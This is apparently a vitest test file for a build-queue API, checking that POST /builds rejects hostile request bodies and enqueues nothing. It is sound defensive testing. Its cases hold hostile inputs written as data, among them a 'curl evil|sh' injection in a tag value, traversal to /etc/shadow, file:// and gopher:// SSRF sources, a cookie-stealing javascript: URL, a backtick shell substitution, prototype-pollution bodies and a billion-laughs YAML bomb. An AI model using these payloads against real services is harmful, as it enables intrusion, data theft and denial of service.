import { BuildStore, type BuildJobData } from "@m1l0/queue";
import { Queue } from "bullmq";
import type { FastifyInstance } from "fastify";
import { buildTestApi, type TestApi } from "./helper.js";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

const BODY_LIMIT = 16 * 1024;

const BASE = { service: "dockerhub", repository: "team/project", source: "https://git.example.com/team/project.git" };

let queue: Queue<BuildJobData>;
let store: BuildStore;
let app: FastifyInstance;

let api: TestApi;
beforeAll(async () => {
  api = await buildTestApi({ name: "api-hostile", app: () => ({ bodyLimit: BODY_LIMIT }) });
  ({ queue, store, app } = api);
});

afterEach(async () => {
  // every case in this file is refused: nothing may ever reach the queue or the store
  expect(await queue.count()).toBe(0);
  expect(await store.list({ limit: 10 })).toEqual([]);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});

afterAll(() => api?.close());

async function post(payload: string | object, contentType = "application/json") {
  return app.inject({ method: "POST", url: "/builds", headers: { "content-type": contentType }, payload: typeof payload === "string" ? payload : JSON.stringify(payload) });
}

type JsonCase = [label: string, patch: Record<string, unknown>, field: string, message: string];

const JSON_CASES: JsonCase[] = [
  ["a newline in a tag value (label injection)", { tags: [{ Key: "a", Value: "b\nRUN curl evil|sh" }] }, "tags.0.Value", "must not contain control characters"],
  ["a NUL in the name", { name: "a\u0000b" }, "name", "must not contain control characters"],
  ["a line separator in the namespace", { namespace: "a\u2028b" }, "namespace", "must not contain control characters"],
  ["an ANSI escape in an ignore pattern", { ignores: ["\u001b[2J"] }, "ignores.0", "must not contain control characters"],
  ["a traversal in entry", { entry: "../../etc/shadow" }, "entry", "must be a relative path inside the source"],
  ["an absolute dockerfile", { dockerfile: "/var/run/docker.sock" }, "dockerfile", "must be a relative path inside the source"],
  ["a backslash traversal in entry", { entry: "..\\..\\x.py" }, "entry", "must be a relative path inside the source"],
  ["an uppercase repository", { repository: "Team/Project" }, "repository", "must be lowercase path components"],
  ["a repository naming another registry", { repository: "evil.io:443/x" }, "repository", "must be lowercase path components"],
  ["a revision with a shell substitution", { revision: "`id`" }, "revision", "must be a valid image tag"],
  ["an overlong revision", { revision: "a".repeat(200) }, "revision", "must be a valid image tag"],
  ["an overlong source", { source: `https://x.org/${"a".repeat(3000)}` }, "source", "must be at most 2048 characters"],
  ["a file:// source", { source: "file:///etc/passwd" }, "source", "must be a URL"],
  ["a javascript: source", { source: "javascript:alert(document.cookie)" }, "source", "must be a URL"],
  ["a gopher:// source", { source: "gopher://127.0.0.1:6379/_FLUSHALL" }, "source", "must be a URL"],
  ["an ftp:// source", { source: "ftp://x.org/a.tar.gz" }, "source", "must be a URL"],
  ["credentials in the source", { source: "https://bot:ghp_secret@github.com/a/b.git" }, "source", "must not embed credentials"],
  ["an ignore pattern with an unterminated character class", { ignores: ["*a*a*a*a*a*a*a*a*[b"] }, "ignores.0", "unterminated character class"],
  ["a pyversion number", { pyversion: 3.1 }, "pyversion", "must be a string"],
  ["tags as a string", { tags: "Project=x" }, "tags", "expected array"],
  ["too many tags", { tags: Array.from({ length: 51 }, (_, i) => ({ Key: `k${i}`, Value: "v" })) }, "tags", "must have at most 50 tags"],
  ["an unknown field", { privileged: true }, "privileged", "is not a known field"],
  ["a constructor.prototype field (refused by the JSON parser)", { constructor: { prototype: { polluted: true } } }, "(body)", "not valid JSON"],
];

describe("POST /builds refuses hostile bodies and enqueues nothing", () => {
  it.each(JSON_CASES)("refuses %s with VALIDATION_FAILED naming the field", async (_label, patch, field, message) => {
    const response = await post({ ...BASE, ...patch });
    expect(response.statusCode).toBe(400);
    const { error } = response.json();
    expect(error.code).toBe("VALIDATION_FAILED");
    const issue = (error.issues as Array<{ field: string; message: string }>).find((candidate) => candidate.field === field);
    expect(issue?.message).toContain(message);
  });

  it.each([
    ["an http source", "http://git.example.com/a.git", "http sources are disabled"],
    ["a dir source", "dir:///etc", "dir:// sources are disabled"],
  ])("refuses %s when the service does not allow it", async (_label, source, message) => {
    const response = await post({ ...BASE, source });
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toMatchObject({ code: "SOURCE_NOT_ALLOWED" });
    expect(response.json().error.message).toContain(message);
  });

  it("refuses __proto__ in a JSON body (prototype poisoning) without polluting anything", async () => {
    const response = await post(`{"service":"dockerhub","repository":"team/project","source":"https://x.org/a.git","__proto__":{"polluted":true}}`);
    expect(response.statusCode).toBe(400);
    expect(response.json().error.code).toBe("VALIDATION_FAILED");
  });

  it("refuses __proto__ in a YAML body as an unknown field", async () => {
    const response = await post(`service: dockerhub\nrepository: team/project\nsource: https://x.org/a.git\n__proto__: {polluted: true}\n`, "application/yaml");
    expect(response.statusCode).toBe(400);
    expect(response.json().error.issues).toContainEqual({ field: "__proto__", message: "is not a known field" });
  });

  it("refuses a billion-laughs YAML body quickly", async () => {
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let level = 1; level < 10; level++) {
      lines.push(`${String.fromCharCode(97 + level)}: &${String.fromCharCode(97 + level)} [${Array(9).fill(`*${String.fromCharCode(96 + level)}`).join(",")}]`);
    }
    const started = Date.now();
    const response = await post(lines.join("\n"), "application/yaml");
    expect(response.statusCode).toBe(400);
    expect(response.json().error.code).toBe("VALIDATION_FAILED");
    expect(response.json().error.message).toMatch(/alias/i);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("refuses a body over the size limit with 413", async () => {
    const response = await post({ ...BASE, name: "n".repeat(BODY_LIMIT) });
    expect(response.statusCode).toBe(413);
    expect(response.json().error.code).toBe("VALIDATION_FAILED");
  });

  it.each([
    ["a JSON array", "[1,2,3]", "application/json"],
    ["a JSON string", '"hello"', "application/json"],
    ["JSON null", "null", "application/json"],
    ["a YAML list", "- a\n- b\n", "application/yaml"],
  ])("refuses %s as a body that is not an object", async (_label, body, type) => {
    const response = await post(body, type);
    expect(response.statusCode).toBe(400);
    expect(response.json().error.code).toBe("VALIDATION_FAILED");
  });

  it.each([
    ["truncated JSON", '{"service": "dockerhub", ', "application/json"],
    ["invalid YAML", "service: [unclosed\n", "application/yaml"],
    ["an unsupported content type", "service=dockerhub", "application/x-www-form-urlencoded"],
  ])("refuses %s with a 4xx and no crash", async (_label, body, type) => {
    const response = await post(body, type);
    expect(response.statusCode).toBeGreaterThanOrEqual(400);
    expect(response.statusCode).toBeLessThan(500);
    expect(response.json().error.code).toBe("VALIDATION_FAILED");
  });
});
